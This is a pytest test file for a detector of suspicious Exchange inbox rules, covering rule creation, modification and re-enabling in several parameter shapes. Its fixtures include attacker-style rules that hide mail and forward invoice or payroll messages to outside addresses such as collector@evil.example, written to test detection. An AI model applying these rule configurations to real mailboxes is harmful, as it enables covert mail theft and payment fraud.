"""Suspicious inbox rules from every source: New-/Set-/Enable-InboxRule, Outlook and API UpdateInboxRules."""

from __future__ import annotations

from typing import Any

import orjson
import pytest
from records import (
    RISKY_IP,
    TEST_TENANT,
    RiskySigninMarker,
    at,
    exchange_cmdlet,
    expected_alert,
    identity_enricher,
    mailbox_record,
    oid_of,
    signin,
)

from detectors.exchange_suspicious_inbox_rule import ExchangeSuspiciousInboxRule
from shared.detection.testing import run_detector
from shared.tenant_config import TenantConfig

TENANT = TenantConfig(tenant_id=TEST_TENANT, internal_domains=["contoso.com"])
ALICE = "alice.smith@contoso.com"
HOME = "198.51.100.10"
DEMO_RULE = [
    {"Name": "AlwaysDeleteOutlookRulesBlob", "Value": "False"},
    {"Name": "Force", "Value": "False"},
    {"Name": "MoveToFolder", "Value": "RSS Feeds"},
    {"Name": "Name", "Value": "."},
    {"Name": "ForwardTo", "Value": "alice.finance@gmail.com"},
    {"Name": "MarkAsRead", "Value": "True"},
    {"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment;wire"},
    {"Name": "StopProcessingRules", "Value": "True"},
]


def run(records: list[dict[str, Any]], tenant: TenantConfig = TENANT) -> list[dict[str, Any]]:
    got = run_detector(
        [RiskySigninMarker, ExchangeSuspiciousInboxRule], records, tenant=tenant, enricher=identity_enricher()
    )
    assert got.quarantined == []
    return [a.to_dict() for a in got.alerts]


def rule_ctx(**over: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "rule_name": None,
        "mailbox": ALICE,
        "change": "create",
        "source": "new-inboxrule",
        "score": 0,
        "reasons": [],
        "external_recipients": [],
        "forward_to": [],
        "move_to_folder": None,
        "delete": False,
        "mark_as_read": False,
        "rule_identity": None,
        "completed_from_earlier_change": False,
        "risk": None,
    }
    base.update(over)
    return base


def alert(record: dict[str, Any], *, severity: str, summary: str, name: str, user_key: str, ip: str, **ctx: Any) -> Any:
    return expected_alert(
        ExchangeSuspiciousInboxRule,
        records=[record],
        severity=severity,
        summary=summary,
        dedup_key=f"{user_key}|{name}",
        user_key=user_key,
        ip=ip,
        context=rule_ctx(**ctx),
    )


def test_the_demo_rule_after_a_vpn_sign_in_is_critical_with_parameters_as_a_json_string() -> None:
    login = signin(ALICE, when=at(minutes=0), ip=RISKY_IP)
    rule = exchange_cmdlet("New-InboxRule", DEMO_RULE, ALICE, when=at(minutes=7), ip=RISKY_IP, params_as_string=True)
    reasons = [
        "forwards or redirects outside the tenant: alice.finance@gmail.com",
        "moves messages to RSS Feeds",
        "marks messages as read",
        "stops processing further rules",
        "conditions on watched words: invoice, payment, wire",
        "obfuscated rule name '.'",
        "created from a risky session",
    ]
    assert run([login, rule]) == [
        alert(
            rule,
            severity="critical",
            summary=f"Inbox rule '.' created on {ALICE}: " + "; ".join(reasons),
            name=".",
            user_key=oid_of(ALICE),
            ip=RISKY_IP,
            rule_name=".",
            score=13,
            reasons=reasons,
            external_recipients=["alice.finance@gmail.com"],
            forward_to=["alice.finance@gmail.com"],
            move_to_folder="RSS Feeds",
            mark_as_read=True,
            risk={
                "source": "risky_signin",
                "reason": "vpn",
                "ip": RISKY_IP,
                "time": 1714550400.0,
                "record_id": login["Id"],
            },
        )
    ]


def test_parameter_order_does_not_matter() -> None:
    forward = exchange_cmdlet("New-InboxRule", DEMO_RULE, ALICE, when=at(minutes=7))
    backward = exchange_cmdlet("New-InboxRule", DEMO_RULE[::-1], ALICE, when=at(minutes=7))
    a, b = run([forward]), run([backward])
    assert [x["context"] for x in a] == [x["context"] for x in b]
    assert a[0]["severity"] == "critical"


OUTLOOK_CASES = [
    pytest.param(
        [
            {"Name": "RuleOperation", "Value": "AddMailboxRule"},
            {"Name": "RuleName", "Value": ".."},
            {"Name": "RuleState", "Value": "Enabled"},
            {"Name": "RuleCondition", "Value": "(Subject Contains Substring (invoice))"},
            {"Name": "RuleActions", "Value": "MoveToFolder: RSS Feeds; MarkAsRead"},
        ],
        "critical",
        "..",
        {
            "rule_name": "..",
            "source": "updateinboxrules",
            "score": 7,
            "reasons": [
                "moves messages to RSS Feeds",
                "marks messages as read",
                "conditions on watched words: invoice",
                "obfuscated rule name '..'",
            ],
            "move_to_folder": "RSS Feeds",
            "mark_as_read": True,
        },
        id="outlook-shape-no-parameters",
    ),
    pytest.param(
        [
            {"Name": "RuleOperation", "Value": "Create"},
            {"Name": "Actions", "Value": '{"forwardTo":[{"emailAddress":{"address":"drop@proton.me"}}],"delete":true}'},
            {"Name": "Conditions", "Value": '{"subjectContains":["payroll"]}'},
        ],
        "high",
        "",
        {
            "source": "updateinboxrules",
            "score": 6,
            "reasons": [
                "forwards or redirects outside the tenant: drop@proton.me",
                "deletes messages",
                "conditions on watched words: payroll",
            ],
            "external_recipients": ["drop@proton.me"],
            "forward_to": ["drop@proton.me"],
            "delete": True,
        },
        id="api-shape-json-actions",
    ),
    pytest.param(
        [
            {"Name": "RuleOperation", "Value": "AddMailboxRule"},
            {"Name": "RuleName", "Value": "Smith"},
            {"Name": "RuleCondition", "Value": "(Subject Contains Substring (Alice Smith))"},
            {"Name": "RuleActions", "Value": "Delete"},
        ],
        "medium",
        "smith",
        {
            "rule_name": "Smith",
            "source": "updateinboxrules",
            "score": 3,
            "reasons": ["deletes messages", "conditions on the mailbox owner's own name: alice, smith"],
            "delete": True,
        },
        id="victims-own-name-in-conditions",
    ),
]


@pytest.mark.parametrize(("props", "severity", "name", "ctx"), OUTLOOK_CASES)
def test_update_inbox_rules_shapes(props: list[dict[str, str]], severity: str, name: str, ctx: dict[str, Any]) -> None:
    rec = mailbox_record("UpdateInboxRules", ALICE, when=at(minutes=9), operation_properties=props)
    shown = ctx.get("rule_name") or "(unnamed)"
    assert run([rec]) == [
        alert(
            rec,
            severity=severity,
            summary=f"Inbox rule {shown!r} created on {ALICE}: " + "; ".join(ctx["reasons"]),
            name=name,
            user_key=ALICE,
            ip=HOME,
            **ctx,
        )
    ]


def test_set_inbox_rule_with_only_forward_to_is_judged_on_what_it_sets() -> None:
    rec = exchange_cmdlet(
        "Set-InboxRule",
        {"Identity": f"{ALICE}\\Newsletters", "ForwardTo": "smtp:collector@evil.example"},
        ALICE,
        when=at(minutes=3),
    )
    assert run([rec]) == [
        alert(
            rec,
            severity="high",
            summary=f"Inbox rule 'Newsletters' changed on {ALICE}: forwards or redirects outside the tenant: "
            "collector@evil.example",
            name="newsletters",
            user_key=ALICE,
            ip=HOME,
            rule_name="Newsletters",
            change="modify",
            source="set-inboxrule",
            score=3,
            reasons=["forwards or redirects outside the tenant: collector@evil.example"],
            external_recipients=["collector@evil.example"],
            forward_to=["collector@evil.example"],
        )
    ]


def test_set_inbox_rule_is_completed_from_the_remembered_rule() -> None:
    created = exchange_cmdlet(
        "New-InboxRule", {"Name": "Old mail", "MoveToFolder": f"{ALICE}:\\Archive"}, ALICE, when=at(minutes=0)
    )
    changed = exchange_cmdlet(
        "Set-InboxRule", {"Identity": f"{ALICE}\\Old mail", "MarkAsRead": "True"}, ALICE, when=at(days=2)
    )
    assert run([created, changed]) == [
        alert(
            changed,
            severity="medium",
            summary=f"Inbox rule 'Old mail' changed on {ALICE}: moves messages to Archive; marks messages as read",
            name="old mail",
            user_key=ALICE,
            ip=HOME,
            rule_name="Old mail",
            change="modify",
            source="set-inboxrule",
            score=3,
            reasons=["moves messages to Archive", "marks messages as read"],
            move_to_folder="Archive",
            mark_as_read=True,
            completed_from_earlier_change=True,
        )
    ]


def test_enable_inbox_rule_of_a_remembered_hiding_rule_alerts_again() -> None:
    created = exchange_cmdlet("New-InboxRule", DEMO_RULE, ALICE, when=at(minutes=0))
    enabled = exchange_cmdlet("Enable-InboxRule", {"Identity": f"{ALICE}\\."}, ALICE, when=at(days=3))
    got = run([created, enabled])
    assert [(a["context"]["change"], a["severity"], a["evidence_record_ids"]) for a in got] == [
        ("create", "critical", [created["Id"]]),
        ("enable", "critical", [enabled["Id"]]),
    ]
    assert got[1]["summary"].startswith(f"Inbox rule '.' re-enabled on {ALICE}: forwards or redirects outside")
    assert got[1]["context"]["completed_from_earlier_change"] is True


def test_a_risky_session_tips_an_archive_rule_over() -> None:
    login = signin(ALICE, when=at(minutes=0), ip=RISKY_IP)
    rule = exchange_cmdlet("New-InboxRule", {"Name": "tidy", "MoveToFolder": "Archive"}, ALICE, when=at(minutes=20))
    quiet = exchange_cmdlet(
        "New-InboxRule", {"Name": "tidy", "MoveToFolder": "Archive"}, "bob@contoso.com", when=at(minutes=20)
    )
    got = run([login, rule, quiet])
    assert [(a["user"], a["severity"], a["context"]["reasons"]) for a in got] == [
        (ALICE, "medium", ["moves messages to Archive", "created from a risky session"])
    ]


NEGATIVES = [
    pytest.param(
        [exchange_cmdlet("New-InboxRule", {"Name": "Holiday cover", "ForwardTo": "bob@contoso.com"}, ALICE)],
        TENANT,
        id="internal-forward",
    ),
    pytest.param(
        [exchange_cmdlet("New-InboxRule", {"Name": "Holiday cover", "ForwardTo": "bob@contoso.com"}, ALICE)],
        TenantConfig(tenant_id=TEST_TENANT),
        id="internal-forward-without-configured-domains",
    ),
    pytest.param(
        [
            exchange_cmdlet(
                "New-InboxRule",
                {
                    "Name": "Newsletters",
                    "From": "news@industry-weekly.example",
                    "MoveToFolder": "Newsletters",
                    "MarkAsRead": "True",
                    "StopProcessingRules": "True",
                },
                ALICE,
            )
        ],
        TENANT,
        id="benign-newsletter-move",
    ),
    pytest.param(
        [
            exchange_cmdlet(
                "New-InboxRule",
                {
                    "Name": "No promos",
                    "From": "deals@shop.example",
                    "DeleteMessage": "True",
                    "StopProcessingRules": "True",
                },
                ALICE,
            )
        ],
        TENANT,
        id="benign-sender-delete-with-default-stop-processing",
    ),
    pytest.param(
        [
            mailbox_record(
                "UpdateInboxRules",
                ALICE,
                operation_properties=[
                    {"Name": "RuleOperation", "Value": "AddMailboxRule"},
                    {"Name": "RuleName", "Value": "Team updates"},
                    {"Name": "RuleCondition", "Value": "(From Equal team-updates@contoso.com)"},
                    {"Name": "RuleActions", "Value": "MoveToFolder: Team updates"},
                ],
            )
        ],
        TENANT,
        id="outlook-rule-without-parameters",
    ),
    pytest.param(
        [exchange_cmdlet("New-InboxRule", DEMO_RULE, ALICE, result="False")],
        TENANT,
        id="failed-cmdlet",
    ),
    pytest.param(
        [
            mailbox_record(
                "UpdateInboxRules",
                ALICE,
                operation_properties=[
                    {"Name": "RuleOperation", "Value": "RemoveMailboxRule"},
                    {"Name": "RuleName", "Value": "."},
                    {"Name": "RuleActions", "Value": "Forward to: x@gmail.com"},
                ],
            )
        ],
        TENANT,
        id="removal",
    ),
]


@pytest.mark.parametrize(("records", "tenant"), NEGATIVES)
def test_benign_rules_raise_nothing(records: list[dict[str, Any]], tenant: TenantConfig) -> None:
    assert run(records, tenant) == []


def _command_line(pairs: list[dict[str, str]]) -> str:
    """The cmdlet's command line for ``pairs`` (how some exports render ``Parameters``: one string)."""
    return " ".join(f'-{p["Name"]} "{p["Value"]}"' for p in pairs)


@pytest.mark.parametrize(
    "shape",
    [
        pytest.param(lambda pairs: _command_line(pairs), id="one-string-command-line"),
        pytest.param(lambda pairs: ";".join(f"{p['Name']}:{p['Value']}" for p in pairs), id="one-string-of-pairs"),
        pytest.param(lambda pairs: [f"{p['Name']}:{p['Value']}" for p in pairs], id="list-of-name-colon-value"),
        pytest.param(lambda pairs: {p["Name"]: p["Value"] for p in pairs}, id="name-value-object"),
        pytest.param(lambda pairs: orjson.dumps(pairs[::-1]).decode(), id="pairs-as-json-string"),
    ],
)
def test_the_same_rule_alerts_identically_in_every_parameter_shape(shape: Any) -> None:
    """Issue #20 item 14: Parameters as one string, as a list or as name:value pairs give the same alert."""
    login = signin(ALICE, when=at(minutes=0), ip=RISKY_IP)
    as_pairs = exchange_cmdlet("New-InboxRule", DEMO_RULE, ALICE, when=at(minutes=7), ip=RISKY_IP)
    reshaped = {**as_pairs, "Parameters": shape(DEMO_RULE)}
    expected = run([login, as_pairs])
    assert len(expected) == 1 and expected[0]["severity"] == "critical"
    assert run([login, reshaped]) == expected
